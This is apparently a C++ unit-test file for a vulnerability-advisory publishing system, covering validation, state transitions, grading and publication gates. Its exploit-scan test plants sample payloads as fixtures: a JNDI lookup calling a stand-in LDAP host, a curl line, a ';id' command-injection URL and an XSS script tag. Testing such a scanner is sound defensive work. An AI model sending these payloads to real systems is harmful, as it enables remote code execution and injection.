// The advisory's rules at their edges: validation, states, the exploit scan
// over every public field, honest grade, and the six gates as a checklist.
#include <gtest/gtest.h>

#include "domain/advisory_rules.h"

namespace loudong::domain {
namespace {

bool has_field(const std::vector<FieldError>& es, const std::string& field, const std::string& code) {
  for (const auto& e : es)
    if (e.field == field && e.code == code) return true;
  return false;
}

Advisory valid() {
  Advisory a;
  a.en.title = "Command injection in the diagnostics page";
  a.en.summary = "The host parameter reaches a shell.";
  a.en.solution = "Upgrade to 2.3.";
  return a;
}

TEST(AdvisoryValidation, OneLanguageRequiredNamingBothFields) {
  Advisory a;
  auto es = validate_advisory(a);
  EXPECT_TRUE(has_field(es, "zh.title", "one_language_required"));
  EXPECT_TRUE(has_field(es, "en.title", "one_language_required"));
  a.zh.impact = "远程执行命令";  // any field makes a language written
  EXPECT_TRUE(validate_advisory(a).empty());
  EXPECT_TRUE(validate_advisory(valid()).empty());
}

TEST(AdvisoryValidation, LimitsAndControlCharacters) {
  struct Case {
    const char* name;
    void (*edit)(Advisory&);
    const char* field;
    const char* code;
  };
  const Case cases[] = {
      {"title at the limit", [](Advisory& a) { a.en.title = std::string(AdvisoryLimits::title, 'x'); }, nullptr, nullptr},
      {"title over", [](Advisory& a) { a.en.title = std::string(AdvisoryLimits::title + 1, 'x'); }, "en.title", "too_long"},
      {"summary over", [](Advisory& a) { a.zh.summary = std::string(AdvisoryLimits::text + 1, 'x'); }, "zh.summary",
       "too_long"},
      {"escape", [](Advisory& a) { a.en.solution = "ok\x1b[2J"; }, "en.solution", "control_character"},
      {"tab and newline pass", [](Advisory& a) { a.en.solution = "a\tb\nc"; }, nullptr, nullptr},
      {"bare CR", [](Advisory& a) { a.zh.detection = "a\rb"; }, "zh.detection", "control_character"},
      {"url scheme", [](Advisory& a) { a.references.push_back({"ftp://x.example/a", "web", ""}); }, "references[0].url",
       "bad_url"},
      {"https url", [](Advisory& a) { a.references.push_back({"https://x.example/a", "fix", ""}); }, nullptr, nullptr},
      {"ref kind", [](Advisory& a) { a.references.push_back({"https://x.example/a", "blog", ""}); },
       "references[0].kind", "unknown_kind"},
      {"credit name", [](Advisory& a) { a.credits.push_back({" ", "finder", std::nullopt}); }, "credits[0].name",
       "required"},
      {"credit role", [](Advisory& a) { a.credits.push_back({"Fiona", "hacker", std::nullopt}); }, "credits[0].role",
       "unknown_role"},
      {"product name", [](Advisory& a) { a.affected.push_back({}); }, "affected[0].name", "required"},
      {"purl", [](Advisory& a) { a.affected.push_back({std::nullopt, "", "R", "npm/x"}); }, "affected[0].purl",
       "bad_purl"},
      {"tlp", [](Advisory& a) { a.tlp = "WHITE"; }, "tlp", "unknown_tlp"},
  };
  for (const auto& c : cases) {
    Advisory a = valid();
    c.edit(a);
    auto es = validate_advisory(a);
    if (!c.field) EXPECT_TRUE(es.empty()) << c.name << ": " << (es.empty() ? "" : es[0].message);
    else EXPECT_TRUE(has_field(es, c.field, c.code)) << c.name;
  }
}

TEST(AdvisoryValidation, ReadinessToPublish) {
  EXPECT_TRUE(publication_readiness(valid()).empty());
  Advisory a = valid();
  a.zh.summary = "诊断页面的 host 参数未经过滤传给 shell。";  // Chinese written: needs its title and, since English has one, its solution
  auto es = publication_readiness(a);
  EXPECT_TRUE(has_field(es, "zh.title", "required"));
  EXPECT_TRUE(has_field(es, "zh.solution", "required"));
  EXPECT_FALSE(has_field(es, "en.solution", "required"));
  EXPECT_FALSE(has_field(es, "en.title", "required"));
  Advisory none = valid();
  none.en.solution.clear();  // no solution anywhere: the fix-first gate's business, not readiness
  EXPECT_TRUE(publication_readiness(none).empty());
}

TEST(AdvisoryStates, TransitionsAndEditing) {
  using S = AdvisoryState;
  struct Row {
    S from, to;
    bool ok;
  };
  const Row rows[] = {
      {S::draft, S::in_review, true},      {S::draft, S::approved, false},    {S::draft, S::published, false},
      {S::in_review, S::approved, true},   {S::in_review, S::draft, true},    {S::in_review, S::published, false},
      {S::approved, S::published, true},   {S::approved, S::draft, true},     {S::published, S::draft, true},
      {S::published, S::in_review, false}, {S::published, S::withdrawn, true}, {S::withdrawn, S::draft, false},
      {S::draft, S::withdrawn, true},
  };
  for (const auto& r : rows) {
    auto s = check_advisory_transition(r.from, r.to);
    EXPECT_EQ(s.ok(), r.ok) << name_of(r.from) << " -> " << name_of(r.to);
    if (!s.ok()) {
      EXPECT_EQ(s.error().code(), "illegal_transition");
    }
  }
  EXPECT_TRUE(advisory_editable(S::draft));
  EXPECT_TRUE(advisory_editable(S::in_review));
  EXPECT_FALSE(advisory_editable(S::approved));
  EXPECT_FALSE(advisory_editable(S::published));
  EXPECT_FALSE(advisory_editable(S::withdrawn));
}

TEST(AdvisoryGates, ExploitScanNamesEveryPublicField) {
  Advisory a = valid();
  EXPECT_TRUE(advisory_exploit_hits(a).empty());
  a.zh.solution = "临时缓解：过滤 ${jndi:ldap://x.example/a}";
  a.en.detection = "```\ncurl http://x\n```";
  a.references.push_back({"https://x.example/diag.cgi?host=1;id", "web", ""});
  a.affected.push_back({std::nullopt, "Acme", "Router <script>alert(1)</script>"});
  a.credits.push_back({"poc.py author", "finder", std::nullopt});
  std::vector<std::string> fields;
  for (const auto& h : advisory_exploit_hits(a)) fields.push_back(h.field + "/" + h.kind);
  for (const char* want : {"zh.solution/payload", "en.detection/code_block", "references[0].url/url_shell_metachar",
                           "affected[0].name/payload", "credits[0].name/poc_marker"})
    EXPECT_NE(std::find(fields.begin(), fields.end(), want), fields.end()) << want;
}

TEST(AdvisoryGates, HonestGradeNamesWhatDiffers) {
  Advisory a = valid();
  Assessment c;
  EXPECT_TRUE(grade_differences(a, c).empty());
  c.grade = assessment::Grade::high;
  c.cvss31_vector = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H";
  c.cvss31_score = 8.8;
  a.grade = assessment::Grade::critical;
  a.cvss31_vector = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
  a.cvss31_score = 9.8;
  auto d = grade_differences(a, c);
  ASSERT_EQ(d.size(), 3u);
  EXPECT_EQ(d[0], "grade: critical (assessed high)");
  EXPECT_EQ(d[2], "cvss31_score: 9.8 (assessed 8.8)");
  a.grade = c.grade;
  a.cvss31_vector = c.cvss31_vector;
  a.cvss31_score = 8.84;  // the same to one decimal
  EXPECT_TRUE(grade_differences(a, c).empty());
}

TEST(AdvisoryGates, ChecklistHasSixGatesFromTheAdvisoryFacts) {
  Case c;
  c.id = 5;
  Advisory a = valid();
  Time now = from_micros(150);
  std::vector<BlackoutPeriod> cal{{"两会", from_micros(100), from_micros(200)}};
  auto facts = advisory_publication_facts(a, c, cal, {}, {});
  auto list = publication_checklist(facts, now);
  ASSERT_EQ(list.size(), 6u);
  std::vector<std::string> failed;
  for (const auto& g : list)
    if (!g.passed) failed.push_back(g.gate);
  EXPECT_EQ(failed, std::vector<std::string>{"blackout"});
  EXPECT_NE(list[3].message.find("两会"), std::string::npos);
  EXPECT_FALSE(list[3].message_zh.empty());

  // MPS consent for this case lifts it; a consent for another case does not.
  PublicationConsent other{0, 6, ConsentKind::mps_blackout};
  PublicationConsent mine{0, 5, ConsentKind::mps_blackout};
  mine.mps_reference = "MPS-1";
  EXPECT_FALSE(publication_checklist(advisory_publication_facts(a, c, cal, {other}, {}), now)[3].passed);
  auto ok = publication_checklist(advisory_publication_facts(a, c, cal, {mine}, {}), now);
  EXPECT_TRUE(ok[3].passed);
  EXPECT_NE(ok[3].message.find("MPS-1"), std::string::npos);
  // At the end of the period the gate passes without consent.
  EXPECT_TRUE(check_publication(advisory_publication_facts(a, c, cal, {}, {}), from_micros(200)).empty());

  // Without a solution: fix first fails unless an early release is assessed.
  a.en.solution = " ";
  EXPECT_EQ(check_publication(advisory_publication_facts(a, c, {}, {}, {}), now).at(0).gate, "fix_first");
  PublicationConsent early{0, 5, ConsentKind::early_release};
  EXPECT_TRUE(check_publication(advisory_publication_facts(a, c, {}, {early}, {}), now).empty());

  // Operator system, foreign recipient and grade: each its own gate.
  a.en.solution = "Upgrade.";
  c.operator_system = true;
  c.assessment.grade = assessment::Grade::low;
  auto fails = check_publication(advisory_publication_facts(a, c, {}, {}, {"Foreign Corp (US)"}), now);
  std::vector<std::string> gates;
  for (const auto& f : fails) gates.push_back(f.gate);
  EXPECT_EQ(gates, (std::vector<std::string>{"no_operator_details", "no_foreign_recipient", "honest_grade"}));
  EXPECT_NE(fails[2].message.find("grade: none (assessed low)"), std::string::npos);
}

}  // namespace
}  // namespace loudong::domain
